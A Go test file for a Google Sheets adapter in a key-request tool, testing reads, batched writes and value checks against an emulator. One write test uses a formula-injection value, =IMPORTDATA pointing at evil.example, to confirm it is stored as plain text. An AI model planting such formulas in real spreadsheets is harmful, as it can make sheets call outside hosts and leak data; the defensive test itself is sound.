package googlesheets_test

import (
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	clocktesting "k8s.io/utils/clock/testing"

	"github.com/keylease/keylease/internal/failure"
	"github.com/keylease/keylease/internal/googlesheets"
	"github.com/keylease/keylease/internal/sheet"
	"github.com/keylease/keylease/test/emulator/sheets"
)

const (
	id  = "1duJexample"
	tab = "key_request_form"
)

// world is a spreadsheet on the emulator and the adapter that talks to it.
type world struct {
	*googlesheets.Client
	server *sheets.Server
	sheet  *sheets.Spreadsheet
	tab    *sheets.Tab
	http   *httptest.Server
}

func start(t *testing.T, rows ...[]any) *world {
	t.Helper()
	w := &world{server: sheets.NewServer(clocktesting.NewFakePassiveClock(time.Date(2026, 12, 1, 6, 0, 0, 0, time.UTC)))}
	w.sheet = w.server.Add(id, sheets.NewSpreadsheet("鍵の申請"))
	w.tab = w.sheet.AddTab(tab)
	if err := w.tab.PasteBlock("A1", rows); err != nil {
		t.Fatal(err)
	}
	w.http = httptest.NewServer(w.server)
	t.Cleanup(w.http.Close)
	w.Client = connect(t, w.http)
	return w
}

func connect(t *testing.T, server *httptest.Server) *googlesheets.Client {
	t.Helper()
	client, err := googlesheets.New(t.Context(), googlesheets.Options{
		EmulatorHost: server.Listener.Addr().String(), UserAgent: "keylease/test"})
	if err != nil {
		t.Fatal(err)
	}
	return client
}

// read asks for the columns A to L of the tab.
func (w *world) read(t *testing.T) ([][][]any, error) {
	return w.Read(t.Context(), id, []string{"'" + tab + "'!A:L"})
}

// write writes one cell.
func (w *world) write(t *testing.T) error {
	return w.Write(t.Context(), id, []sheet.CellWrite{{Range: "'" + tab + "'!K2", Value: "通知済み"}})
}

func TestReadGivesRaggedRowsOfPlainValuesInTheOrderAsked(t *testing.T) {
	w := start(t,
		[]any{"氏名", "終了日"},
		[]any{"鈴木 花子", sheets.Date(2026, time.December, 8), true, nil, 12345678901.0},
		nil,
		[]any{nil, "2026/12/31"})
	users := w.sheet.AddTab("it's users")
	if err := users.PasteBlock("A1", [][]any{{"U0EMPLOY02"}}); err != nil {
		t.Fatal(err)
	}
	got, err := w.Read(t.Context(), id, []string{"'it''s users'!A:E", "'" + tab + "'!A:L", "'" + tab + "'!Z1"})
	if err != nil {
		t.Fatal(err)
	}
	want := [][][]any{
		{{"U0EMPLOY02"}},
		{{"氏名", "終了日"}, {"鈴木 花子", 46364.0, true, "", 12345678901.0}, {}, {"", "2026/12/31"}},
		nil,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if stats := w.server.Stats(); stats.Reads != 1 || stats.Writes != 0 {
		t.Errorf("%+v; want one read", stats)
	}
}

func TestWriteWritesAllCellsInOneRequestAsTheyAre(t *testing.T) {
	w := start(t, []any{"header"}, []any{"x", "old", "old", "old"})
	err := w.Write(t.Context(), id, []sheet.CellWrite{
		{Range: "'" + tab + "'!A2", Value: `=IMPORTDATA("https://evil.example/")`},
		{Range: "'" + tab + "'!B2", Value: 46364.0},
		{Range: "'" + tab + "'!C2", Value: nil},
		{Range: "'" + tab + "'!D2", Value: "2027/01/05"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := []any{`=IMPORTDATA("https://evil.example/")`, 46364.0, nil, "2027/01/05"}
	var got []any
	for _, name := range []string{"A2", "B2", "C2", "D2"} {
		cell := w.tab.Cell(name)
		if cell.Formula != "" {
			t.Errorf("%s became a formula", name)
		}
		got = append(got, cell.Value)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if stats := w.server.Stats(); stats.Reads != 0 || stats.Writes != 1 {
		t.Errorf("%+v; want one write", stats)
	}
}

func TestNothingToDoIsNoRequest(t *testing.T) {
	w := start(t)
	if values, err := w.Read(t.Context(), id, nil); values != nil || err != nil {
		t.Errorf("Read of nothing: %v, %v", values, err)
	}
	if err := w.Write(t.Context(), id, nil); err != nil {
		t.Errorf("Write of nothing: %v", err)
	}
	if stats := w.server.Stats(); stats.Reads+stats.Writes != 0 {
		t.Errorf("%+v; want no request", stats)
	}
}

func TestWriteRefusesWhatACellCannotHold(t *testing.T) {
	w := start(t, []any{"x"})
	err := w.Write(t.Context(), id, []sheet.CellWrite{{Range: "'" + tab + "'!A1", Value: []string{"a"}}})
	if !failure.Is(err, failure.Terminal) || !strings.Contains(err.Error(), "a cell cannot hold a []string") {
		t.Errorf("got %v", err)
	}
	if w.server.Stats().Writes != 0 {
		t.Error("a request was made")
	}
}
